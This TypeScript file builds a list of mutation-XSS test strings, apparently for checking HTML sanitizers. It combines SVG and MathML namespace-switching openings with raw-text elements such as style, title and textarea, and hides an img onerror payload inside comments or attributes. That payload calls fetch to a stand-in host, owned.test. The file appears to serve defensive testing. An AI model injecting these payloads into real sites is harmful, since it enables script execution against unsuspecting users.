/*
 * Markup that a parser may read in another way once it has been written out and is parsed again: elements that change
 * the namespace or how text is read, around a payload that is harmless as the first parser sees it.
 */

const RUN = 'globalThis.owned=1,fetch(`//owned.test/`)';
const IMAGE = `<img src=x onerror="${RUN}">`;

const openings = [
  '',
  '<svg>',
  '<math>',
  '<svg><desc>',
  '<svg><foreignObject>',
  '<math><mtext>',
  '<math><annotation-xml>',
]
  .concat('<math><annotation-xml encoding="text/html">', '<math><mtext><table><mglyph>', '<svg><title>')
  .concat('<form><math><mtext></form><form><mglyph>', '<table><tr><svg><desc>', '<select><svg>', '<template><svg>')
  .concat(`${'<div>'.repeat(300)}<svg>`, '<p is="x-y"><svg>');

/** Elements whose content is text in HTML, and markup in drawings and formulas. */
const texts = ['style', 'title', 'textarea', 'noscript', 'xmp', 'iframe', 'noembed', 'noframes', 'script', 'plaintext'];

const insides: readonly ((tag: string) => string)[] = [
  (tag) => `<${tag}><!--</${tag}>${IMAGE.replaceAll('"', "'")}-->`,
  (tag) => `<${tag}><p title="</${tag}>${IMAGE.replaceAll('"', '&quot;')}">`,
];

/** Each of these in each of those. */
export const mutatingMarkup: readonly string[] = openings.flatMap((opening) =>
  texts.flatMap((tag) => insides.map((inside) => `${opening}${inside(tag)}`)),
);
